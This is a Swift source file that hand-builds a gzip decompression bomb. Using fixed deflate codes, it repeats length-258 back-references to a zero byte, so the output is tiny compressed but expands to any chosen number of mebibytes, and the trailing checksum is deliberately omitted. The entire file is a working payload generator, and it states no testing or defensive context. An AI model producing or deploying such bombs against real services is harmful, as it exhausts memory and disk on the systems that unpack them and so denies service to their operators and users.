/// Zeros in gzip, written by hand after RFC 1951: small on the wire, large when unpacked.
enum GzipBomb {
  /// About so many mebibytes of zeros, in two hundredths of their size or less.
  static func bytes(mebibytes: Int) -> [UInt8] {
    // RFC 1952: magic number, deflate, no flags, no time, no hint, unknown system.
    var writer = BitWriter(bytes: [0x1F, 0x8B, 8, 0, 0, 0, 0, 0, 0, 255])
    // RFC 1951: not the last block, with fixed codes; the literal 0 is the code 00110000.
    writer.append("0" + "10" + "00110000")
    // The length 258 is the code 11000101, the distance 1 is 00000.
    for _ in 0..<(mebibytes << 20) / 258 { writer.append("11000101" + "00000") }
    // End of the block; an empty last one; whoever reads so far finds no checksum.
    writer.append("0000000" + "1" + "10" + "0000000")
    return writer.bytes
  }

  /// Bits in the order in which deflate has them: the first one lowest in its byte.
  private struct BitWriter {
    var bytes: [UInt8]
    private var used = 8

    init(bytes: [UInt8]) { self.bytes = bytes }

    mutating func append(_ bits: String) {
      for bit in bits.utf8 {
        if used == 8 {
          bytes.append(0)
          used = 0
        }
        if bit == UInt8(ascii: "1") { bytes[bytes.count - 1] |= 1 << UInt8(used) }
        used += 1
      }
    }
  }
}
